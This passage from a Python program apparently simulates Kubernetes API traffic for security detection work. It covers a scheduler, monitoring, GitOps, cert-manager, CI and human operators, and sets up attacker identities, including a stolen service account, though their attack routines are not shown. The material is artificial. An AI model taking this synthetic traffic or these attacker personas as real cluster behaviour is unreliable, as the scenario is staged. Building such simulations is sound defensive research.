        md = pod["metadata"]
        ns, name = md["namespace"], md["name"]
        t = sec_now()
        cs = [{"name": c["name"], "ready": False, "started": False, "restartCount": 0, "image": c["image"],
               "imageID": "", "state": {"terminated": {"exitCode": 0, "reason": "Completed", "finishedAt": t}}}
              for c in pod["spec"]["containers"]]
        self.api.patch(f"/api/v1/namespaces/{ns}/pods/{name}/status",
                       {"metadata": {"uid": md["uid"]}, "status": {"containerStatuses": cs}})
        self.api.delete(f"/api/v1/namespaces/{ns}/pods/{name}",
                        {"kind": "DeleteOptions", "apiVersion": "v1", "gracePeriodSeconds": 0,
                         "preconditions": {"uid": md["uid"]}})

    def refresh(self):
        """Token rotation and the Secret/ConfigMap reflectors' relists, a few pods at a time."""
        pods = [p for uid, p in list(self.pods.items()) if self.flags.get(uid) == {"started"}]
        for p in random.sample(pods, min(len(pods), 2)):
            self.token(p)
            self.read_refs(p)


class Scheduler:
    """Binds pending pods to the nodes (round robin; DaemonSet pods to their node)."""

    def __init__(self, tb):
        self.ident = tb.sign("scheduler", "system:kube-scheduler")
        self.tb = tb
        self.queue = []
        self.lock = threading.Lock()
        self.cordoned = set()
        self.rr = 0

    def on_pod(self, typ, pod):
        if typ in ("ADDED", "MODIFIED") and not pod["spec"].get("nodeName") and \
                not pod["metadata"].get("deletionTimestamp"):
            with self.lock:
                self.queue.append(pod)

    def on_node(self, typ, node):
        n = node["metadata"]["name"]
        if node["spec"].get("unschedulable"):
            self.cordoned.add(n)
        else:
            self.cordoned.discard(n)

    def target(self, pod):
        aff = (((pod["spec"].get("affinity") or {}).get("nodeAffinity") or {})
               .get("requiredDuringSchedulingIgnoredDuringExecution") or {})
        for term in aff.get("nodeSelectorTerms", []):
            for mf in term.get("matchFields", []) or []:
                if mf.get("key") == "metadata.name" and mf.get("values"):
                    return mf["values"][0] if mf["values"][0] in NODES else None
        sel = pod["spec"].get("nodeSelector") or {}
        candidates = [n for n in NODES if n not in self.cordoned]
        if "kubernetes.io/hostname" in sel:
            candidates = [n for n in candidates if n == sel["kubernetes.io/hostname"]]
        if not candidates:
            return None
        self.rr += 1
        return candidates[self.rr % len(candidates)]

    def bind_loop(self):
        api = Api(self.tb, self.ident, UA_SCHED, kind="scheduler")
        seen = {}
        while not STOP.is_set():
            with self.lock:
                batch, self.queue = self.queue, []
            for pod in batch:
                md = pod["metadata"]
                if md["uid"] in seen:
                    continue
                node = self.target(pod)
                if node is None:
                    continue
                seen[md["uid"]] = node
                api.post(f"/api/v1/namespaces/{md['namespace']}/pods/{md['name']}/binding",
                         {"apiVersion": "v1", "kind": "Binding",
                          "metadata": {"name": md["name"], "namespace": md["namespace"], "uid": md["uid"]},
                          "target": {"apiVersion": "v1", "kind": "Node", "name": node}})
            STOP.wait(0.2)

    def start(self):
        Informer(self.tb, self.ident, UA_SCHED, "/api/v1/pods",
                 q(fieldSelector="spec.nodeName=,status.phase!=Succeeded,status.phase!=Failed"),
                 self.on_pod, kind="scheduler").start()
        Informer(self.tb, self.ident, UA_SCHED, "/api/v1/nodes", "", self.on_node, kind="scheduler").start()
        threading.Thread(target=self.bind_loop, daemon=True).start()


# ------------------------------------------------------------------ benign actors

DISCOVERY_ACCEPT = ("application/json;g=apidiscovery.k8s.io;v=v2;as=APIGroupDiscoveryList,"
                    "application/json;g=apidiscovery.k8s.io;v=v2beta1;as=APIGroupDiscoveryList,application/json")


def discovery(api):
    api.get("/api?timeout=32s", accept=DISCOVERY_ACCEPT)
    api.get("/apis?timeout=32s", accept=DISCOVERY_ACCEPT)


def is_ready(dep):
    s, spec = dep.get("status", {}), dep.get("spec", {})
    want = spec.get("replicas", 1)
    return (s.get("observedGeneration", 0) >= dep["metadata"].get("generation", 0)
            and s.get("updatedReplicas", 0) == want and s.get("availableReplicas", 0) == want)


class Benign:
    def __init__(self, tb, w, rate):
        self.tb, self.w, self.rate = tb, w, rate
        self.versions = {(ns, app): [1, 0, 0] for ns, app, *_ in APPS}
        self.helm_rev = {}
        self.cm_state = {}

    def p(self, period):
        """A machine actor's period, scaled by the traffic rate."""
        return period / self.rate

    def pp(self, period):
        """A person's period: people speed up less than machines."""
        return period / self.rate ** 0.5

    def sa(self, ns, name):
        return self.w.sa_idents[(ns, name)]

    def start(self, duration):
        tb, w = self.tb, self.w
        # Monitoring: Prometheus service discovery, kube-state-metrics, kube-rbac-proxy.
        prom = self.sa("monitoring", "prometheus")
        for path in ["/api/v1/pods", "/api/v1/endpoints", "/api/v1/services", "/api/v1/nodes",
                     "/apis/discovery.k8s.io/v1/endpointslices", "/apis/networking.k8s.io/v1/ingresses"]:
            Informer(tb, prom, UA_PROM, path, kind="monitoring").start()
        ksm = self.sa("monitoring", "kube-state-metrics")
        for path in ["/api/v1/pods", "/api/v1/nodes", "/api/v1/namespaces", "/api/v1/secrets", "/api/v1/configmaps",
                     "/api/v1/services", "/apis/apps/v1/deployments", "/apis/apps/v1/replicasets",
                     "/apis/apps/v1/daemonsets", "/apis/apps/v1/statefulsets", "/apis/batch/v1/jobs",
                     "/apis/batch/v1/cronjobs"]:
            Informer(tb, ksm, UA_KSM, path, kind="monitoring").start()
        Periodic(self.rbac_proxy(), self.p(0.5), name="kube-rbac-proxy").start()
        Periodic(self.prom_relabel(), self.p(6), name="prometheus-sd").start()
        # In-app API clients.
        for ns, app in APP_CLIENTS:
            Periodic(self.app_client(ns, app), self.p(4), name=f"app-{ns}-{app}").start()
        # Dashboards (the restricted-viewer token) and Argo CD.
        Periodic(self.dashboard(), self.p(2.5), name="dashboard").start()
        argo = self.sa("argocd", "argocd-application-controller")
        for path in ["/api/v1/pods", "/api/v1/services", "/api/v1/configmaps", "/api/v1/secrets",
                     "/api/v1/serviceaccounts", "/apis/apps/v1/deployments", "/apis/apps/v1/replicasets",
                     "/apis/apps/v1/statefulsets", "/apis/networking.k8s.io/v1/ingresses",
                     "/apis/rbac.authorization.k8s.io/v1/rolebindings", "/apis/batch/v1/cronjobs"]:
            Informer(tb, argo, UA_ARGO, path, tmin=30, tmax=60, relist=self.p(90), kind="argocd").start()
        Periodic(self.argo_refresh(), self.p(3), name="argocd").start()
        # Operators: cert-manager and its CA injector.
        cm = self.sa("cert-manager", "cert-manager")
        Informer(tb, cm, UA_CM, "/api/v1/secrets", q(labelSelector="controller.cert-manager.io/fao=true"),
                 kind="cert-manager").start()
        Informer(tb, cm, UA_CM, "/apis/networking.k8s.io/v1/ingresses", kind="cert-manager").start()
        Periodic(self.cert_manager(), self.p(4), name="cert-manager").start()
        Periodic(self.cainjector(), self.p(30), name="cainjector", first=10).start()
        # CI: server-side apply pipelines and Helm upgrades, smoke tests, a job with a dead token.
        for i in range(2):  # two runners
            Periodic(self.ci(), self.p(7), name=f"ci-{i}", first=3 + 2 * i).start()
        Periodic(self.ci_bot(), self.p(20), name="ci-bot").start()
        for frac in (0.3, 0.72):
            t = threading.Timer(duration * frac, self.ci_bad_token)
            t.daemon = True
            t.start()
        # People.
        Periodic(self.person("alice", ["shop", "inventory", "frontend"], UA_MAC), self.pp(3), name="alice").start()
        Periodic(self.person("dave", ["payments", "search", "analytics"], UA_LINUX), self.pp(3.5), name="dave").start()
        Periodic(self.ops(), self.pp(4), name="bob").start()
        Periodic(self.carol_all(), 110, jitter=0.15, first=25, name="carol-all").start()
        Periodic(self.carol_own(), self.pp(12), name="carol").start()

    # -- monitoring
    def rbac_proxy(self):
        api = Api(self.tb, self.sa("monitoring", "kube-rbac-proxy"), UA_RBAC_PROXY, kind="monitoring")
        prom_token = self.sa("monitoring", "prometheus").token

        def fn():
            api.post("/apis/authentication.k8s.io/v1/tokenreviews",
                     {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenReview",
                      "spec": {"token": prom_token}})
            api.post("/apis/authorization.k8s.io/v1/subjectaccessreviews",
                     {"apiVersion": "authorization.k8s.io/v1", "kind": "SubjectAccessReview",
                      "spec": {"user": "system:serviceaccount:monitoring:prometheus",
                               "groups": ["system:serviceaccounts", "system:serviceaccounts:monitoring",
                                          "system:authenticated"],
                               "nonResourceAttributes": {"path": "/metrics", "verb": "get"}}})
        return fn

    def prom_relabel(self):
        api = Api(self.tb, self.sa("monitoring", "prometheus"), UA_PROM, kind="monitoring")

        def fn():
            ns = random.choice(APP_NAMESPACES)
            api.get(f"/api/v1/namespaces/{ns}/endpoints?limit=500")
            api.get(f"/api/v1/namespaces/{ns}/pods?limit=500")
        return fn

    # -- applications
    def app_client(self, ns, app):
        api = Api(self.tb, self.sa(ns, app), random.choice([UA_APP, UA_HAZEL]), kind="apps")

        def fn():
            api.get(f"/api/v1/namespaces/{ns}/configmaps/{app}-config")
            if random.random() < 0.6:
                api.get(f"/api/v1/namespaces/{ns}/pods?" + q(labelSelector=f"app.kubernetes.io/name={app}"))
            if random.random() < 0.4:
                api.get(f"/api/v1/namespaces/{ns}/endpoints/{app}")
        return fn

    def dashboard(self):
        api = Api(self.tb, self.w.restricted, UA_DASH, kind="dashboard")
        n = [0]

        def fn():
            n[0] += 1
            ns = random.choice(APP_NAMESPACES + ["monitoring"])
            api.get(f"/api/v1/namespaces/{ns}/pods?limit=100")
            api.get(f"/apis/apps/v1/namespaces/{ns}/deployments?limit=100")
            if n[0] % 2:
                api.get(f"/apis/apps/v1/namespaces/{ns}/replicasets?limit=100")
                api.get(f"/api/v1/namespaces/{ns}/services?limit=100")
            if n[0] % 5 == 0:
                api.get("/api/v1/namespaces?limit=100")
                api.get(f"/apis/networking.k8s.io/v1/namespaces/{ns}/ingresses?limit=100")
        return fn

    def argo_refresh(self):
        api = Api(self.tb, self.sa("argocd", "argocd-application-controller"), UA_ARGO, kind="argocd")
        n = [0]

        def fn():
            n[0] += 1
            if n[0] % 8 == 1:
                discovery(api)
                api.get("/version")
            ns, app, *_ = random.choice(APPS)
            api.get(f"/apis/apps/v1/namespaces/{ns}/deployments/{app}")
            api.get(f"/api/v1/namespaces/{ns}/services/{app}")
        return fn

    # -- operators
    def cert_manager(self):
        api = Api(self.tb, self.sa("cert-manager", "cert-manager"), UA_CM, kind="cert-manager")
        names = [(ns, f"{ns}-tls") for ns in APP_NAMESPACES] + \
                [(ns, f"{app}-tls") for ns, app, *_ in APPS[::3]] + [("monitoring", "grafana-tls"),
                                                                      ("argocd", "argocd-server-tls")]

        def fn():
            ns, name = random.choice(names)
            sec = tls_secret(ns, name)
            cur = self.cm_state.get((ns, name))
            if random.random() < 0.3:
                # a new private key first, in a temporary Secret, as cert-manager does
                tmp = {"apiVersion": "v1", "kind": "Secret", "type": "Opaque",
                       "metadata": {"generateName": f"{name.removesuffix('-tls')}-", "namespace": ns,
                                    "labels": {"cert-manager.io/next-private-key": "true",
                                               "controller.cert-manager.io/fao": "true"}},
                       "data": {"tls.key": b64s(rnd_token(48))}}
                st, out = api.post(f"/api/v1/namespaces/{ns}/secrets", tmp)
                if st == 201:
                    api.delete(f"/api/v1/namespaces/{ns}/secrets/{out['metadata']['name']}")
            if cur is None:
                st, out = api.get(f"/api/v1/namespaces/{ns}/secrets/{name}")
                if st == 404:
                    st, out = api.post(f"/api/v1/namespaces/{ns}/secrets", sec)
                if st in (200, 201):
                    self.cm_state[(ns, name)] = out["metadata"]["resourceVersion"]
                return
            sec["metadata"]["resourceVersion"] = cur
            st, out = api.put(f"/api/v1/namespaces/{ns}/secrets/{name}", sec)
            if st == 200:
                self.cm_state[(ns, name)] = out["metadata"]["resourceVersion"]
            else:
                self.cm_state.pop((ns, name), None)
        return fn

    def cainjector(self):
        ident = self.sa("cert-manager", "cert-manager-cainjector")
        api = Api(self.tb, ident, UA_CAINJ, kind="cert-manager")
        for path in ["/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations",
                     "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations"]:
            Informer(self.tb, ident, UA_CAINJ, path, kind="cert-manager").start()

        def fn():
            ca = b64s("-----BEGIN CERTIFICATE-----\n" + rnd_token(600) + "\n-----END CERTIFICATE-----\n")
            for kind in ("validatingwebhookconfigurations", "mutatingwebhookconfigurations"):
                api.patch(f"/apis/admissionregistration.k8s.io/v1/{kind}/cert-manager-webhook",
                          [{"op": "replace", "path": "/webhooks/0/clientConfig/caBundle", "value": ca}], kind="json")
        return fn

    # -- CI
    def ci(self):
        ident = self.sa("ci", "deployer")
        kapi = Api(self.tb, ident, UA_LINUX, kind="ci")
        hapi = Api(self.tb, ident, UA_HELM, kind="ci")
        ssa_apps = [(ns, app, r, s) for ns, app, r, s, how in APPS if how == "ssa"]
        helm_apps = [(ns, app, r, s) for ns, app, r, s, how in APPS if how == "helm"]

        def bump(ns, app):
            v = self.versions[(ns, app)]
            v[2] += 1
            if random.random() < 0.15:
                v[1], v[2] = v[1] + 1, 0
            return ".".join(map(str, v))

        def wait(api, ns, app):
            for _ in range(6):
                st, d = api.get(f"/apis/apps/v1/namespaces/{ns}/deployments/{app}")
                if st != 200 or is_ready(d):
                    return
                time.sleep(1)

        def kubectl_pipeline():
            ns, app, replicas, secret = random.choice(ssa_apps)
            version = bump(ns, app)
            discovery(kapi)
            lab = {"app.kubernetes.io/managed-by": "ci", "app.kubernetes.io/version": version}
            objs = [{"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta(app, ns, {"app.kubernetes.io/name": app})},
                    app_config(ns, app, self.versions[(ns, app)][2], labels={"app.kubernetes.io/name": app}),
                    service(ns, app, labels={"app.kubernetes.io/managed-by": "ci"}),
                    deployment(ns, app, replicas, version, secret, labels=lab)]
            for o in objs:
                ssa(kapi, o, "kubectl")
            wait(kapi, ns, app)

        def helm_upgrade():
            ns, app, replicas, secret = random.choice(helm_apps)
            version = bump(ns, app)
            discovery(hapi)
            st, lst = hapi.get(f"/api/v1/namespaces/{ns}/secrets?" + q(labelSelector=f"name={app},owner=helm"))
            if st != 200:
                return
            revs = sorted(int(s["metadata"]["labels"]["version"]) for s in lst["items"])
            last = revs[-1] if revs else 0
            new = helm_release(ns, app, last + 1, "pending-upgrade")
            st, created = hapi.post(f"/api/v1/namespaces/{ns}/secrets", new)
            if st != 201:
                return
            ann = {"meta.helm.sh/release-name": app, "meta.helm.sh/release-namespace": ns}
            cm = app_config(ns, app, last + 1)
            hapi.get(f"/api/v1/namespaces/{ns}/configmaps/{app}-config")
            hapi.patch(f"/api/v1/namespaces/{ns}/configmaps/{app}-config",
                       {"metadata": {"annotations": ann}, "data": cm["data"]})
            hapi.get(f"/api/v1/namespaces/{ns}/services/{app}")
            hapi.patch(f"/api/v1/namespaces/{ns}/services/{app}",
                       {"metadata": {"labels": {"helm.sh/chart": f"{app}-{version}"}, "annotations": ann}})
            hapi.get(f"/apis/apps/v1/namespaces/{ns}/deployments/{app}")
            hapi.patch(f"/apis/apps/v1/namespaces/{ns}/deployments/{app}",
                       {"metadata": {"labels": {"helm.sh/chart": f"{app}-{version}",
                                                "app.kubernetes.io/version": version}, "annotations": ann},
                        "spec": {"template": {"metadata": {"annotations": {"checksum/config": os.urandom(16).hex()}},
                                              "spec": {"containers": [{"name": app,
                                                                       "image": image_of(ns, app, version)}]}}}})
            if (ns, app) == ("frontend", "ui"):
                st, ing = hapi.get("/apis/networking.k8s.io/v1/namespaces/frontend/ingresses/ui")
                if st == 200:
                    ing["metadata"].setdefault("annotations", {}).update(ann)
                    ing["metadata"]["labels"] = {"helm.sh/chart": f"ui-{version}"}
                    ing.pop("status", None)
                    hapi.put("/apis/networking.k8s.io/v1/namespaces/frontend/ingresses/ui", ing)
            # the previous release superseded, the new one deployed, history capped at 10
            for s in lst["items"]:
                if s["metadata"]["labels"].get("status") == "deployed":
                    s["metadata"]["labels"]["status"] = "superseded"
                    hapi.put(f"/api/v1/namespaces/{ns}/secrets/{s['metadata']['name']}", s)
            created["metadata"]["labels"]["status"] = "deployed"
            hapi.put(f"/api/v1/namespaces/{ns}/secrets/{created['metadata']['name']}", created)
            for r in revs[:-9]:
                hapi.delete(f"/api/v1/namespaces/{ns}/secrets/sh.helm.release.v1.{app}.v{r}")
            wait(hapi, ns, app)

        def fn():
            (kubectl_pipeline if random.random() < 0.5 else helm_upgrade)()
        return fn

    def ci_bot(self):
        api = Api(self.tb, self.w.ci_bot, UA_LINUX, kind="ci")

        def fn():
            ns, app, *_ = random.choice(APPS)
            api.get(f"/apis/apps/v1/namespaces/{ns}/deployments/{app}")
            api.get(f"/api/v1/namespaces/{ns}/pods?" + q(labelSelector=f"app.kubernetes.io/name={app}"))
            api.get(f"/api/v1/namespaces/{ns}/services/{app}")
        return fn

    def ci_bad_token(self):
        """A CI job still holding the token of a deleted service account: 3 tries, 401 each."""
        if STOP.is_set():
            return
        api = Api(self.tb, self.w.legacy_ci, UA_LINUX, kind="ci-legacy")
        for i in range(3):
            api.get("/apis/apps/v1/namespaces/ci/deployments?limit=500")
            time.sleep(2 + i)

    # -- people
    def person(self, name, namespaces, ua):
        api = Api(self.tb, self.w.people[name], ua, xff=OFFICE[name], kind="people")
        mine = [(ns, app) for ns, app, *_ in APPS if ns in namespaces]
        writable = [x for x in mine if x not in ATTACK_TARGETS]
        created = []

        def pods_of(ns, app):
            st, lst = api.get(f"/api/v1/namespaces/{ns}/pods?" + q(labelSelector=f"app.kubernetes.io/name={app}"))
            return [p["metadata"]["name"] for p in lst.get("items", [])] if st == 200 else []

        def act():
            ns, app = random.choice(mine)
            a = random.choices(
                ["pods", "deploys", "describe-deploy", "describe-pod", "logs", "svc-cm", "apply-cm", "create-cm",
                 "scale", "restart", "status", "delete-pod", "can-i", "events", "ingress", "apply-svc"],
                [5, 3, 3, 2, 1, 2, 1.5, 0.6, 0.4, 0.25, 1, 0.5, 0.5, 1, 0.5, 0.3])[0]
            if a == "pods":
                api.get(f"/api/v1/namespaces/{ns}/pods?limit=500")
            elif a == "deploys":
                api.get(f"/apis/apps/v1/namespaces/{ns}/deployments?limit=500")
            elif a == "describe-deploy":
                api.get(f"/apis/apps/v1/namespaces/{ns}/deployments/{app}")
                api.get(f"/apis/apps/v1/namespaces/{ns}/replicasets?" + q(labelSelector=f"app.kubernetes.io/name={app}"))
                api.get(f"/api/v1/namespaces/{ns}/events?" + q(fieldSelector=f"involvedObject.name={app},involvedObject.namespace={ns},involvedObject.kind=Deployment"))
            elif a == "describe-pod":
                for p in pods_of(ns, app)[:1]:
                    api.get(f"/api/v1/namespaces/{ns}/pods/{p}")
                    api.get(f"/api/v1/namespaces/{ns}/events?" + q(fieldSelector=f"involvedObject.name={p},involvedObject.namespace={ns}"))
            elif a == "logs":
                for p in pods_of(ns, app)[:1]:
                    api.get(f"/api/v1/namespaces/{ns}/pods/{p}/log?" + q(container=app, tailLines="100"))
            elif a == "svc-cm":
                api.get(f"/api/v1/namespaces/{ns}/services?limit=500")
                api.get(f"/api/v1/namespaces/{ns}/configmaps?limit=500")
            elif a == "apply-cm":
                # client-side apply of the team's own feature flags
                data = {"checkout.v2": random.choice(["on", "off"]), "search.fuzzy": random.choice(["on", "off"]),
                        "banner": random.choice(["", "Maintenance window Sunday 02:00 UTC"])}
                cm = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": meta(f"{app}-flags", ns), "data": data}
                last = json.dumps(cm, separators=(",", ":"))
                st, _ = api.get(f"/api/v1/namespaces/{ns}/configmaps/{app}-flags")
                if st == 404:
                    cm["metadata"]["annotations"] = {"kubectl.kubernetes.io/last-applied-configuration": last + "\n"}
                    api.post(f"/api/v1/namespaces/{ns}/configmaps?fieldManager=kubectl-client-side-apply&fieldValidation=Strict", cm)
                else:
                    api.patch(f"/api/v1/namespaces/{ns}/configmaps/{app}-flags?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
                              {"data": data, "metadata": {"annotations": {"kubectl.kubernetes.io/last-applied-configuration": last + "\n"}}})
            elif a == "create-cm":
                n = f"{name}-notes-{random.randint(1000, 9999)}"
                api.post(f"/api/v1/namespaces/{ns}/configmaps?fieldManager=kubectl-create&fieldValidation=Strict",
                         {"apiVersion": "v1", "kind": "ConfigMap", "metadata": meta(n, ns),
                          "data": {"notes.txt": f"load test {random.randint(1, 99)} rps ok\n", "owner": name}})
                created.append((ns, n))
                if len(created) > 2:
                    ons, on = created.pop(0)
                    api.delete(f"/api/v1/namespaces/{ons}/configmaps/{on}")
            elif a == "scale" and writable:
                wns, wapp = random.choice(writable)
                reps = {a_[1]: a_[2] for a_ in APPS if a_[0] == wns}[wapp]
                api.get(f"/apis/apps/v1/namespaces/{wns}/deployments/{wapp}")
                api.patch(f"/apis/apps/v1/namespaces/{wns}/deployments/{wapp}/scale",
                          {"spec": {"replicas": reps + random.choice([0, 1])}}, kind="merge")
            elif a == "restart" and writable:
                wns, wapp = random.choice(writable)
                api.patch(f"/apis/apps/v1/namespaces/{wns}/deployments/{wapp}?fieldManager=kubectl-rollout",
                          {"spec": {"template": {"metadata": {"annotations": {
                              "kubectl.kubernetes.io/restartedAt": datetime.datetime.now().astimezone().isoformat(timespec="seconds")}}}}})
            elif a == "status":
                for _ in range(random.randint(1, 3)):
                    api.get(f"/apis/apps/v1/namespaces/{ns}/deployments/{app}")
            elif a == "delete-pod" and (ns, app) in writable:
                for p in pods_of(ns, app)[:1]:
                    api.delete(f"/api/v1/namespaces/{ns}/pods/{p}")
            elif a == "can-i":
                api.post("/apis/authorization.k8s.io/v1/selfsubjectaccessreviews",
                         {"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectAccessReview",
                          "spec": {"resourceAttributes": {"namespace": ns, "verb": random.choice(["create", "delete", "patch"]),
                                                          "group": "apps", "resource": "deployments"}}})
            elif a == "events":
                api.get(f"/api/v1/namespaces/{ns}/events?limit=500")
            elif a == "ingress":
                api.get(f"/apis/networking.k8s.io/v1/namespaces/{ns}/ingresses?limit=500")
            elif a == "apply-svc" and (ns, app) in writable:
                st, svc = api.get(f"/api/v1/namespaces/{ns}/services/{app}")
                if st == 200:
                    api.patch(f"/api/v1/namespaces/{ns}/services/{app}?fieldManager=kubectl-client-side-apply",
                              {"metadata": {"annotations": {"team.example.com/owner": name}}})

        def fn():
            # a command or two at a time, discovery now and then (kubectl's cache expires)
            if random.random() < 0.1:
                discovery(api)
            for _ in range(random.randint(1, 2)):
                act()
        return fn

    def ops(self):
        api = Api(self.tb, self.w.people["bob"], UA_LINUX, xff=OFFICE["bob"], kind="people")
        cordoned = []

        def fn():
            a = random.choices(["nodes", "describe-node", "pods-all", "deploys-all", "events-all", "restart", "scale",
                                "delete-pod", "cm", "label-ns", "cordon", "top-ns", "get-rs"],
                               [3, 2, 3, 2, 1, 0.3, 0.4, 0.6, 0.3, 0.2, 0.15, 1, 1])[0]
            if random.random() < 0.08:
                discovery(api)
            if a == "nodes":
                api.get("/api/v1/nodes?limit=500")
            elif a == "describe-node":
                n = random.choice(NODES)
                api.get(f"/api/v1/nodes/{n}")
                api.get("/api/v1/pods?" + q(fieldSelector=f"spec.nodeName={n},status.phase!=Failed,status.phase!=Succeeded", limit="500"))
                api.get("/api/v1/events?" + q(fieldSelector=f"involvedObject.kind=Node,involvedObject.name={n}"))
            elif a == "pods-all":
                api.get("/api/v1/pods?limit=500")
            elif a == "deploys-all":
                api.get("/apis/apps/v1/deployments?limit=500")
            elif a == "events-all":
                api.get("/api/v1/events?limit=500")
            elif a == "get-rs":
                ns = random.choice(APP_NAMESPACES)
                api.get(f"/apis/apps/v1/namespaces/{ns}/replicasets?limit=500")
            elif a == "top-ns":
                ns = random.choice(APP_NAMESPACES + ["monitoring", "kube-system"])
                api.get(f"/api/v1/namespaces/{ns}/pods?limit=500")
            elif a in ("restart", "scale"):
                ns, app, reps, *_ = random.choice([x for x in APPS if (x[0], x[1]) not in ATTACK_TARGETS])
                if a == "restart":
                    api.patch(f"/apis/apps/v1/namespaces/{ns}/deployments/{app}?fieldManager=kubectl-rollout",
                              {"spec": {"template": {"metadata": {"annotations": {
                                  "kubectl.kubernetes.io/restartedAt": datetime.datetime.now().astimezone().isoformat(timespec="seconds")}}}}})
                else:
                    api.patch(f"/apis/apps/v1/namespaces/{ns}/deployments/{app}/scale",
                              {"spec": {"replicas": reps + random.choice([0, 1])}}, kind="merge")
            elif a == "delete-pod":
                ns = random.choice(["monitoring"] + [x[0] for x in APPS])
                st, lst = api.get(f"/api/v1/namespaces/{ns}/pods?limit=500")
                pods = [p["metadata"] for p in lst.get("items", [])] if st == 200 else []
                pods = [m for m in pods if not any(m["name"].startswith(t[1] + "-") for t in ATTACK_TARGETS if t[0] == ns)
                        and not m.get("deletionTimestamp")]
                if pods:
                    api.delete(f"/api/v1/namespaces/{ns}/pods/{random.choice(pods)['name']}")
            elif a == "cm":
                api.patch("/api/v1/namespaces/monitoring/configmaps/alertmanager-templates?fieldManager=kubectl-client-side-apply",
                          {"data": {"slack.tmpl": '{{ define "slack.title" }}[{{ .Status | toUpper }}] '
                                                  + random.choice(["{{ .CommonLabels.alertname }}", "{{ .GroupLabels.alertname }}"])
                                                  + "{{ end }}"}})
            elif a == "label-ns":
                ns = random.choice(APP_NAMESPACES)
                api.patch(f"/api/v1/namespaces/{ns}", {"metadata": {"labels": {"cost-center": random.choice(["cc-101", "cc-204"])}}})
            elif a == "cordon":
                if cordoned:
                    n = cordoned.pop()
                    api.patch(f"/api/v1/nodes/{n}", {"spec": {"unschedulable": None}})
                else:
                    n = random.choice(NODES)
                    api.get(f"/api/v1/nodes/{n}")
                    api.patch(f"/api/v1/nodes/{n}", {"spec": {"unschedulable": True}})
                    cordoned.append(n)
        return fn

    def carol_all(self):
        """`kubectl get all -A` by someone who may read one namespace: a few 403s."""
        api = Api(self.tb, self.w.people["carol"], UA_MAC, xff=OFFICE["carol"], kind="people")

        def fn():
            discovery(api)
            for path in ["/api/v1/pods", "/api/v1/replicationcontrollers", "/api/v1/services",
                         "/apis/apps/v1/daemonsets", "/apis/apps/v1/deployments", "/apis/apps/v1/replicasets",
                         "/apis/apps/v1/statefulsets", "/apis/autoscaling/v2/horizontalpodautoscalers",
                         "/apis/batch/v1/cronjobs", "/apis/batch/v1/jobs"]:
                api.get(path + "?limit=500")
            api.get("/api/v1/namespaces/analytics/pods?limit=500")
        return fn

    def carol_own(self):
        api = Api(self.tb, self.w.people["carol"], UA_MAC, xff=OFFICE["carol"], kind="people")

        def fn():
            api.get(random.choice(["/api/v1/namespaces/analytics/pods?limit=500",
                                   "/apis/apps/v1/namespaces/analytics/deployments?limit=500",
                                   "/api/v1/namespaces/analytics/services?limit=500"]))
        return fn


def tls_secret(ns, name):
    cert = "-----BEGIN CERTIFICATE-----\n" + rnd_token(700) + "\n-----END CERTIFICATE-----\n"
    key = "-----BEGIN EC PRIVATE KEY-----\n" + rnd_token(90) + "\n-----END EC PRIVATE KEY-----\n"
    return {"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/tls",
            "metadata": {"name": name, "namespace": ns,
                         "labels": {"controller.cert-manager.io/fao": "true"},
                         "annotations": {"cert-manager.io/certificate-name": name.removesuffix("-tls"),
                                         "cert-manager.io/issuer-name": "letsencrypt-prod",
                                         "cert-manager.io/issuer-kind": "ClusterIssuer",
                                         "cert-manager.io/common-name": f"{name.removesuffix('-tls')}.{ns}.example.com"}},
            "data": {"tls.crt": b64s(cert), "tls.key": b64s(key), "ca.crt": b64s(cert)}}


def helm_release(ns, app, rev, status):
    body = json.dumps({"name": app, "namespace": ns, "version": rev, "info": {"status": status},
                       "chart": {"metadata": {"name": app, "version": f"0.{rev}.0"}},
                       "manifest": "---\n# Source: deployment.yaml\n" + rnd_token(300)})
    data = base64.b64encode(gzip.compress(body.encode())).decode()
    return {"apiVersion": "v1", "kind": "Secret", "type": "helm.sh/release.v1",
            "metadata": {"name": f"sh.helm.release.v1.{app}.v{rev}", "namespace": ns,
                         "labels": {"name": app, "owner": "helm", "status": status, "version": str(rev),
                                    "modifiedAt": str(int(time.time()))}},
            "data": {"release": b64s(data)}}


# ------------------------------------------------------------------ setup

class World:
    """The identities: benign (people, service accounts) and attackers."""

    def __init__(self, tb):
        self.tb = tb
        self.people = {n: tb.sign(n, n, [g]) for n, g in
                       [("bob", "ops"), ("dave", "developers"), ("carol", "analysts")]}
        self.people["alice"] = Ident("alice", tb.pki("alice.crt"), tb.pki("alice.key"))
        self.restricted = Ident("restricted-viewer", token=open(tb.pki("restricted.token")).read().strip())
        self.ci_bot = Ident("ci-bot", token=open(tb.pki("ci-bot.token")).read().strip())
        self.sa_idents = {}
        self.legacy_ci = None
        # attackers
        self.mallory = tb.sign("mallory", "mallory", ["platform-oncall"])
        self.eve = tb.sign("eve", "eve", ["shop-team"])
        self.trent = tb.sign("trent", "trent", ["contractors"])
        self.worker9 = tb.sign("node-worker-9", "system:node:worker-9", ["system:nodes"])
        self.stolen = None      # payments:billing-worker
        self.backup = None      # tools:backup-agent


BENIGN_SAS = [("monitoring", "prometheus"), ("monitoring", "kube-state-metrics"), ("monitoring", "kube-rbac-proxy"),
              ("ci", "deployer"), ("cert-manager", "cert-manager"), ("cert-manager", "cert-manager-cainjector"),
              ("argocd", "argocd-application-controller")] + APP_CLIENTS


def rbac_objects():
    o = []
    o.append(role("monitoring-discovery", [rule([""], ["pods", "endpoints", "services", "nodes", "nodes/metrics"], READ),
                                           rule(["discovery.k8s.io"], ["endpointslices"], READ),
                                           rule(["networking.k8s.io"], ["ingresses"], READ),
                                           {"nonResourceURLs": ["/metrics"], "verbs": ["get"]}]))
    o.append(binding("monitoring-discovery", "ClusterRole", "monitoring-discovery", [sa_subj("monitoring", "prometheus")]))
    o.append(role("kube-state-metrics", [
        rule([""], ["pods", "nodes", "namespaces", "secrets", "configmaps", "services", "endpoints",
                    "persistentvolumeclaims", "resourcequotas"], ["list", "watch"]),
        rule(["apps"], ["deployments", "replicasets", "daemonsets", "statefulsets"], ["list", "watch"]),
